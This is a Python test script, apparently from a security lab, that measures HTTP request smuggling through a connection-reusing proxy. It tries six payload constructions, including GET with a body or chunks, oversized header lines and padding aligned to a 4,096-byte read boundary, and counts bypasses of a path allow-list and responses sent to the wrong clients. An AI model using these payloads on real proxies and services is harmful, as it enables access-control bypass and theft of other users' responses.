"""Requests that hide in others: who gets past the list of allowed paths, and which honest client gets whose answer?

A proxy that keeps its connections to a service, and a service that does not read all that it was sent, disagree about where
a request begins. What is left over is then the beginning of the next one, which is an honest client's.
"""

import sys
import time

from lab import HONEST, Lab
from wire import HOST, Kept, chunked, connect, length, post, raw, read_all, smuggled

TRIES = 15


def in_one_piece(padding, headers=b""):
    """All in one segment: the library forgets what it has read of it at once, 4096 bytes, and goes on with the rest. With
    one of the paddings the rest begins with a request."""
    body = b"x" * padding + smuggled() * 50
    return [raw(b"GET /health", HOST + headers + length(body), body)]


WAYS = {
    "GET with a body": [[raw(b"GET /health", HOST + length(smuggled())), smuggled()]] * TRIES,
    "GET with chunks": [[raw(b"GET /health", HOST + b"Transfer-Encoding: chunked\r\n"), chunked(smuggled())]] * TRIES,
    "Range": [[post(b"Range: junk\r\n" + length(smuggled())), smuggled()]] * TRIES,
    "a long line": [[post(b"X: " + b"a" * 8500 + b"\r\n" + length(smuggled())), smuggled()]] * TRIES,
    "50 at once": [in_one_piece(padding) for padding in range(len(smuggled()))],
    "50 behind a long line": [in_one_piece(padding, b"X: " + b"a" * 8500 + b"\r\n") for padding in range(len(smuggled()))],
}


def smuggle(build, system, ways=tuple(WAYS), edit=(), seconds=0.0):
    """Of each way: tries, requests that came past the proxy; and what eight honest clients got."""
    with Lab(build, system, story=True, edit=edit, ours=HONEST) as lab:
        honest = [Kept(lab.port) for _ in range(8)]
        found = {"ways": {}}
        end = time.monotonic() + seconds
        while True:
            for way in ways:
                before = lab.log("service1").count("POST /smuggled ")
                for parts in WAYS[way]:
                    try:
                        with connect(lab.port, timeout=1) as connection:
                            for number, part in enumerate(parts):
                                time.sleep(0.05 * (number > 0))
                                connection.sendall(part)
                            read_all(connection, 0.05)
                    except OSError:
                        pass
                time.sleep(0.2)
                one = found["ways"].setdefault(way, {"tries": 0, "past": 0})
                one["tries"] += len(WAYS[way])
                one["past"] += lab.log("service1").count("POST /smuggled ") - before
            if time.monotonic() >= end:
                break
        for one in honest:
            one.end()
        wrong = sum((one.wrong for one in honest), [])
        found |= {"right": sum(one.right for one in honest), "wrong": len(wrong), "for example": wrong[:3],
                  "failed": sum(one.failed for one in honest)}
        return found


if __name__ == "__main__":
    for system in sys.argv[2].split(","):
        print(f"{system:12} {smuggle(sys.argv[1], system)}", flush=True)
